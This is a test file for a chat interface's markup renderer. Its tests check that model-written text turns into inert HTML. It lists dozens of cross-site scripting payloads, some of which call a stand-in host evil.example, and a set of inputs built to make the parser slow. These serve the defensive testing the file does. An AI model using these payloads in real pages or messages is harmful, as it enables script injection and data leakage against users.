"""Whatever a model writes becomes HTML that can do nothing but be read."""

import re
import time
from html.parser import HTMLParser

import pytest

from modules.ui.markup import ATTRIBUTES, MATHML, TAGS, escape_text, render_message, snippet_html

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<details open ontoggle=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<object data=x></object>", "<embed src=x>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=x></form>",
    "<a href=javascript:alert(1)>x</a>", "<div style='position:fixed;inset:0'>x</div>", "<video src=//evil.example autoplay>",
    "<audio src=//evil.example autoplay>", "<picture><source srcset=//evil.example></picture>", "<template><img onerror=x></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img onerror=x></annotation-xml></math>", "<math><maction actiontype=statusline>x</maction></math>",
    "<table><math><mglyph><style><img src=x onerror=alert(1)>", "<x onclick=alert(1)>click", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<scr<script>ipt>alert(1)</script>", "<<img src=x onerror=x>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "[x](file:///etc/passwd)",
    "[x](blob:x)", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>", "<https://ok.example/\"onmouseover=alert(1)>", "[x](https://ok.example \"t\" onmouseover=alert(1))",
    '[x](https://ok.example \'"><img src=x onerror=alert(1)>\')', "![x](https://evil.example/leak.png)", "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://evil.example/x.png)', "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```", "```html onload=alert(1)\n<script>alert(1)</script>\n```", "```<img src=x onerror=x>\nx\n```",
    "`<img src=x onerror=alert(1)>`", "$\\href{javascript:alert(1)}{x}$", "$\\style{background:url(//evil.example)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$", "$\\class{x}{y} \\url{javascript:x}$", "$$<script>alert(1)</script>$$", "\\(<img onerror=x>\\)",
    "| <img src=x onerror=x> |\n|---|\n| [x](javascript:y) |", "# <script>x</script>", "- <svg onload=x>", "> <img onerror=x>",
    "a\0<script>x</script>", "\u202e<script>x</script>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞", "<img src=x onerror=x", "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip


class Reader(HTMLParser):
    """Collects what is there, as a browser would take it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("around", ["{}", "text {} text", "- {}", "> {}", "**{}**"])
def test_attacks_are_only_text(attack: str, around: str) -> None:
    for tag, attributes in read(render_message(around.format(attack))).tags:
        assert tag in TAGS | MATHML, tag
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, attributes)
        address = attributes.get("href")
        assert address is None or re.match(r"(https?|mailto):", address), address
    assert {tag for tag, _ in read(escape_text(attack)).tags} == set()


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 60


def test_what_is_good_stays() -> None:
    text = (
        "# Title\n\nA **bold** [link](https://example.org/x) and `code`, $x^2$, $5 and $10.\nnew line\n\n"
        "1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('x')\n```\n\n$$\\frac{1}{2}$$\n\n\\[ y = 1 \\]\n"
    )
    reader = read(render_message(text))
    tags = [tag for tag, _ in reader.tags]
    for tag in ["h1", "strong", "a", "code", "math", "msup", "ol", "li", "table", "figure", "button", "mfrac", "br"]:
        assert tag in tags, tag
    link = next(attributes for tag, attributes in reader.tags if tag == "a")
    assert link["href"] == link["title"] == "https://example.org/x"
    assert link["rel"] == "noopener noreferrer"
    assert "$5 and $10" in reader.text
    assert ("td", {"class": "align-right"}) in reader.tags
    assert any(attributes.get("class") == "nb" for tag, attributes in reader.tags if tag == "span")
    assert tags.count("math") == 3


@pytest.mark.parametrize(
    ("text", "addresses"),
    [
        ("See https://example.org/a_b(c)?x=1*2&y=3. More", ["https://example.org/a_b(c)?x=1*2&y=3"]),
        ("(http://x.y/z), **https://e.org** and _http://a.b/c_!", ["http://x.y/z", "https://e.org", "http://a.b/c"]),
        ("见https://x.org/a。更多 HTTP://[::1]:8/x", ["https://x.org/a", "HTTP://[::1]:8/x"]),
        ("| a |\n|---|\n| http://x.y/a_b |\n\n- [ ] http://x.y", ["http://x.y/a_b", "http://x.y"]),
        ("[see http://a.b](http://c.d) <http://k.l>", ["http://c.d", "http://k.l"]),
        ("`http://a.b` xhttp://a.b http:// http://? ftp://a.b www.a.b readme.md me@a.b //a.b javascript://a", []),
        ("```\nhttp://a.b\n```", []),
    ],
)
def test_addresses_in_running_text_are_links(text: str, addresses: list[str]) -> None:
    links = [attributes for tag, attributes in read(render_message(text)).tags if tag == "a"]
    assert [link["href"] for link in links] == addresses
    assert all(link["title"] == link["href"] for link in links)
    assert {(link["rel"], link["target"]) for link in links} <= {("noopener noreferrer", "_blank")}


def test_images_are_links_that_name_their_host() -> None:
    reader = read(render_message("![a cat](https://pics.example/cat.png)"))
    assert reader.tags[1] == (
        "a",
        {
            "class": "remote-image",
            "href": "https://pics.example/cat.png",
            "target": "_blank",
            "title": "https://pics.example/cat.png",
            "rel": "noopener noreferrer",
        },
    )
    assert reader.text.strip() == "Image: a cat (pics.example)"


def test_formulas_that_cannot_be_read_are_shown() -> None:
    assert "\\frac{" in read(render_message("$\\frac{$ and $a$")).text


SLOW = {
    "brackets": "[" * 100_000, "open links": "[a](" * 30_000, "stars": "*a " * 60_000, "runs": "*" * 200_000, "ticks": "`a" * 50_000,
    "quotes": "> " * 50_000, "nested lists": "\n".join(" " * n + "- a" for n in range(400)), "dollars": "$a" * 60_000, "emphasis": "_a*b" * 40_000,
    "table": "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|b" * 100 + "|\n") * 500, "images": "![" * 50_000, "references": "[a]: b\n" * 20_000,
    "comments": "<!--" * 40_000, "entities": "&" * 100_000, "fences": "```\n" * 40_000, "latex": "$" + "{" * 3000 + "$", "megabyte": "word " * 200_000,
    "macros": "$\\newcommand{\\a}{aaaaaaaaaa}" + "".join(f"\\newcommand{{\\{chr(98 + i)}}}{{" + f"\\{chr(97 + i)}" * 10 + "}" for i in range(8)) + "\\i$",
    "formulas": "$\\frac{a}{b}$ " * 14_000, "deep formulas": ("$" + "a_{" * 400 + "}" * 400 + "$ ") * 60, "languages": "".join(f"```z{n}\n```\n" for n in range(12_000)),
    "colons": "x ://" * 40_000, "addresses": "http://a " * 20_000, "runs of addresses": "http://a" * 24_000, "brackets after one": ("http://a/" + "a)" * 900 + " ") * 100,
    "numbers": "1. a\n" * 30_000, "backslashes": "\\(" * 50_000, "python": "```python\n" + "(" * 90_000 + "\n```",
}  # fmt: skip


@pytest.mark.parametrize("name", SLOW)
def test_text_made_to_be_slow(name: str) -> None:
    # Thread time rather than time: what else runs on this machine does not count.
    started = time.thread_time()
    render_message(SLOW[name])
    assert time.thread_time() - started < 4


@pytest.mark.parametrize(
    "text", ["\0", "\ud800", "a\ufffdb", "\u202etest", "é" * 10, "👩‍👩‍👧", "", " ", "\n\n"], ids=ascii
)
def test_odd_characters(text: str) -> None:
    render_message(text).encode("utf-8")
    escape_text(text).encode("utf-8")


def test_outermost_blocks_run_the_way_their_words_do() -> None:
    """Blocks further in would take their words away from the outermost one, which then ran left to right."""
    html = render_message("مرحبا\n\n- واحد\n- اثنان\n\n> اقتباس\n\n# عنوان\n\n| أ |\n|---|\n| ب |")
    marked = [tag for tag, attributes in read(html).tags if attributes.get("dir") == "auto"]
    assert marked == ["p", "ul", "blockquote", "h1", "table"]


@pytest.mark.parametrize("kind", ["pmatrix", "bmatrix", "Bmatrix", "vmatrix", "Vmatrix"])
def test_brackets_grow_with_their_matrix(kind: str) -> None:
    html = render_message(f"$$a = \\begin{{{kind}}} 1 & 2 \\\\ 3 & 4 \\end{{{kind}}}$$")
    fences = [attributes for tag, attributes in read(html).tags if tag == "mo" and attributes]
    assert fences == [{"stretchy": "true", "fence": "true", "form": form} for form in ("prefix", "postfix")]


def test_tasks_are_boxes() -> None:
    html = render_message("- [ ] open\n- [x] done\n- [X] done too\n- [y] no task\n\n[ ] no item")
    assert [attributes.get("class") for tag, attributes in read(html).tags if tag == "li"] == ["task"] * 3 + [None]
    assert read(html).text.split("\n") == ["", "☐ open", "☑ done", "☑ done too", "[y] no task", "", "[ ] no item", ""]


def test_snippets() -> None:
    assert snippet_html("one two three four five six seven eight \x02hit\x03 x") == (
        "…four five six seven eight <mark>hit</mark> x"
    )
    assert snippet_html("a <b> \x02hit\x03") == "a &lt;b&gt; <mark>hit</mark>"
